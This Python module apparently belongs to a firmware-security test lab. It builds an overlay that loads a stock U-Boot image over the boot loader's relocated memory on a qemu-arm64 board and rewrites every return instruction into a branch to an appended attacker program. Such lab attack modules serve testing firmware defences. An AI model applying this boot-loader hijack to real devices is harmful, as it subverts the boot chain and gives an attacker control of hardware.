"""Memory in which the boot loader lies while it runs: what is loaded there runs in its place.

Whatever copies an image over the boot loader is a part of it, and has to go on until it is done. So what is copied is
the boot loader as anybody has it from its distribution, and every return in it leads to the attacker's program.
"""

import struct
from dataclasses import dataclass
from pathlib import Path

from firmward.lab import board as boards
from firmward.lab.attacks import Unseen
from firmward.lab.means import bare_program
from firmward.lab.target import Target

END = {"qemu-arm64": 0x4FFF0000}
"""By board, up to where the boot loader moves itself: the memory ends 64 KiB behind, which are page tables."""
SIZE_IN_MEMORY = 0x20
"""Where U-Boot's head says it (arch/arm/cpu/armv8/start.S)."""
PAGE = 0x1000
RETURN, BRANCH = 0xD65F03C0, 0x14000000
OFFSET = (1 << 26) - 1
"""Of a branch, in words."""


@dataclass(frozen=True, slots=True)
class Overlay:
    """`load` is the address that its bytes are for."""

    load: int
    content: bytes

    @property
    def cell(self) -> bytes:
        """The address as a device tree has it."""
        return self.load.to_bytes(4, "big")


def overlay(target: Target) -> Overlay:
    """Raises Unseen for a board whose boot loader lies elsewhere."""
    board = target.device.said.board
    if board not in END:
        raise Unseen(f"where the boot loader of {board} lies in memory is not known")
    loader = Path(boards.virtual(board).stock.loader).read_bytes()
    program = bare_program.bare(target.challenge, bare_program.serial_of(target))
    return Overlay(place(loader, END[board]), hooked(loader, program))


def place(loader: bytes, end: int) -> int:
    """Where it moves itself (common/board_f.c)."""
    (size,) = struct.unpack_from("<Q", loader, SIZE_IN_MEMORY)
    return int(end - size) & -PAGE


def hooked(loader: bytes, program: bytes) -> bytes:
    """With the program behind it, to which each return leads now."""
    padded = loader + bytes(-len(loader) % 8)
    words = list(struct.unpack(f"<{len(padded) // 4}I", padded))
    for number, word in enumerate(words):
        if word == RETURN:
            words[number] = BRANCH | (len(words) - number) & OFFSET
    return struct.pack(f"<{len(words)}I", *words) + program
